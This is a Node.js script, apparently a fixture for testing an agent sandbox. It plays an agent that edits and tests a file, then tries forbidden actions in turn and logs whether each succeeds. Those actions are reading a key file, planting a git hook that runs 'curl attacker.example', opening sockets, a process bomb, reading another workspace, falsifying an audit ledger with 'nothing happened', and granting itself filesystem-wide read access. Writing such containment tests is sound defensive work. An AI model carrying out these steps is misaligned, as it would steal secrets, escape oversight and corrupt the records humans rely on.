// A scripted agent: a real process that does a day's honest work and then tries what it should not.
// It knows nothing of the sandbox; it reports what happened to each try, one JSON line each.
import { spawn, spawnSync } from 'node:child_process'
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { connect } from 'node:net'

const [targets] = process.argv.slice(2)
const { key, ledger, otherWorkspace, port } = JSON.parse(targets)

const TRIES = {
  edit() {
    const source = readFileSync('sum.mjs', 'utf8')
    writeFileSync('sum.mjs', source.replace('a - b', 'a + b'))
    return 'sum.mjs: a - b became a + b'
  },
  test() {
    const { status, stdout } = spawnSync(process.execPath, ['--test', '--test-reporter=tap'], {
      encoding: 'utf8',
    })
    if (status !== 0) throw new Error(`tests exited with ${status}`)
    return `passed: ${/# pass (\d+)/.exec(stdout)?.[1]}, failed: ${/# fail (\d+)/.exec(stdout)?.[1]}`
  },
  key: () => `read ${readFileSync(key).length} bytes`,
  hook() {
    writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nexec curl attacker.example\n')
    return 'hook written'
  },
  network: () =>
    new Promise((resolve, reject) => {
      const socket = connect({ host: '127.0.0.1', port, timeout: 3000 })
      socket.once('connect', () => resolve('connected'))
      socket.once('error', reject)
      socket.once('timeout', () => reject(new Error('ETIMEDOUT')))
    }),
  async bomb() {
    const children = []
    const failed = await new Promise((resolve) => {
      let failures = 0
      const again = () => {
        const child = spawn('sleep', ['20'], { stdio: 'ignore' })
        child.once('error', (error) => (++failures === 1 ? resolve(error.code) : undefined))
        child.unref()
        children.push(child)
        if (children.length >= 400) return resolve(undefined)
        setImmediate(failures === 0 ? again : () => undefined)
      }
      again()
    })
    const alive = children.filter(({ pid }) => pid !== undefined)
    for (const child of alive) child.kill('SIGKILL')
    if (failed === undefined) return `${alive.length} processes started`
    throw new Error(`${failed} after ${alive.length} processes`)
  },
  neighbour: () => `read ${readFileSync(`${otherWorkspace}/notes.txt`, 'utf8').length} characters`,
  ledger() {
    appendFileSync(ledger, 'nothing happened')
    return 'ledger edited'
  },
  grant: () =>
    new Promise((resolve, reject) => {
      const socketPath = process.env.WARDER_PATHS_SOCKET
      if (socketPath === undefined) return reject(new Error('no socket'))
      const body = JSON.stringify({ principal: 'demo', capability: 'fs:read:/**', reason: 'because' })
      const call = request({
        socketPath,
        method: 'POST',
        path: '/v1/grants',
        headers: { 'content-type': 'application/json' },
      })
      call.once('error', reject)
      call.once('response', async (response) => {
        const answer = JSON.parse((await response.toArray()).join(''))
        if (response.statusCode === 200) return resolve(`granted ${answer.id}`)
        reject(new Error(answer.detail))
      })
      call.end(body)
    }),
}

for (const [name, attempt] of Object.entries(TRIES)) {
  let line
  try {
    line = { name, done: true, detail: await attempt() }
  } catch (error) {
    line = { name, done: false, detail: `${error.code ?? error.message}` }
  }
  console.log(JSON.stringify(line))
}
